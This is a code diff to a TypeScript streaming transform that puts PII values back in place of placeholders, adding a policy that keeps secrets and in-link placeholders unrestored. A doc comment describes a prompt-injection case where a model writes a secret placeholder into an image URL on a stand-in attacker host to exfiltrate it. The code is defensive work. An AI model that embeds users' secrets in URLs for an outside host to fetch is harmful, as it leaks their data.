@@ -1,20 +1,45 @@
 import type { TextTransform } from '../core/bridge/answer-hooks';
 import { MAX_PLACEHOLDER_LENGTH, PLACEHOLDER, type PiiVault } from './vault';
 
+/** How much of the answer before a placeholder is kept to tell whether the placeholder sits in a link. */
+const CONTEXT_CHARS = 2048;
+
+/** The text since the last blank, quote, bracket or angle bracket opens a URL ("https://x.example/?k=", "www.x.example/"). */
+const IN_LINK = /(?:[a-z][a-z0-9+.-]*:\/\/|\bwww\.)[^\s"'`<>()]*$/i;
+
+export interface RestorePolicy {
+  /** Whether a placeholder of this category is put back at all (not: secrets, by default). */
+  restores(category: string): boolean;
+  /** Put values back inside links the model wrote (off by default: a link is fetched by whoever renders it). */
+  inLinks: boolean;
+}
+
 /**
  * Puts the original values back where the model wrote a placeholder, chunk by
  * chunk: text that could be the start of a placeholder split across two stream
  * chunks (`[EMA` + `IL_1]`) is held back until the next chunk decides it.
+ *
+ * A model that read a prompt injection can write a placeholder where it carries the value away
+ * (`![](https://attacker.example/p.png?k=[SECRET_1])`, a tool call's URL): what the policy does not restore stays a
+ * placeholder, and so does any placeholder inside a link unless the policy allows it.
  */
-export function restoreTransform(vault: PiiVault, options: { insideJson?: boolean } = {}): TextTransform {
+export function restoreTransform(vault: PiiVault, policy: RestorePolicy, options: { insideJson?: boolean } = {}): TextTransform {
   let pending = '';
+  /** The model's own words before the text being restored, for the link check. */
+  let before = '';
   // Inside tool-call arguments the value lands in a JSON string, so it is escaped as one.
   const render = (value: string) => (options.insideJson ? JSON.stringify(value).slice(1, -1) : value);
-  const restore = (text: string) =>
-    text.replace(PLACEHOLDER, (match) => {
+  const restore = (text: string) => {
+    const out = text.replace(PLACEHOLDER, (match, _label: string, _n: string, offset: number) => {
       const value = vault.byPlaceholder.get(match);
-      return value === undefined ? match : render(value);
+      const category = vault.categoryOf.get(match);
+      if (value === undefined || category === undefined || !policy.restores(category)) return match;
+      if (!policy.inLinks && IN_LINK.test((before + text.slice(0, offset)).slice(-CONTEXT_CHARS))) return match;
+      return render(value);
     });
+    before = (before + text).slice(-CONTEXT_CHARS);
+    return out;
+  };
   return {
     restoresOriginals: true,
     push(text) {
